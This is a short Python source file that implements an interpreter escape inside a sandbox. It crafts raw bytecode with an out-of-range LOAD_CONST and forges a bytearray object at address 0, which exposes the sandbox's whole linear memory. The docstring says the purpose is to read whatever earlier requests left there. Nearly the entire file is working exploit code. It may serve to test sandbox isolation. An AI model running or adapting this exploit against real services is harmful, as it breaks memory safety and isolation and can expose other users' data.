"""The interpreter's whole linear memory as a bytearray, by breaking the interpreter.

A function whose bytecode loads a constant from beyond its constants takes any four bytes of memory for the address of an
object; what lies there is made to look like a bytearray that begins at address 0. Only the sandbox's own memory can be
seen this way, which is the point: whatever another request left there would be seen.
"""

import struct
from opcode import opmap

TUPLE_ITEMS = 12  # offset of a tuple's items: reference count, type, size
BYTES_CONTENT = 16  # offset of a bytes object's content: the same and its hash
IMMORTAL = 0x3FFFFFFF


def _load_constant(index):
    """Bytecode that returns the constant at `index`, whatever is there."""
    parts = struct.pack(">I", index)
    code = bytes([opmap["RESUME"], 0])
    for part in parts[:-1]:
        code += bytes([opmap["EXTENDED_ARG"], part])
    return code + bytes([opmap["LOAD_CONST"], parts[-1], opmap["RETURN_VALUE"], 0])


def _template():
    pass


def whole_memory(end):
    """A bytearray over the addresses below `end`. What it is made of must live as long as it does."""
    #                  count     type           size  allocated  buffer  start  exports
    fake = struct.pack("<7I", IMMORTAL, id(bytearray), end, end + 1, 0, 0, 0)
    cell = struct.pack("<I", id(fake) + BYTES_CONTENT)
    constants = ()
    index = (id(cell) + BYTES_CONTENT - id(constants) - TUPLE_ITEMS) % 2 ** 32 // 4
    code = _template.__code__.replace(co_code=_load_constant(index), co_consts=constants, co_stacksize=4)
    memory = type(_template)(code, {})()
    KEPT.append((fake, cell, memory))
    return memory


KEPT = []
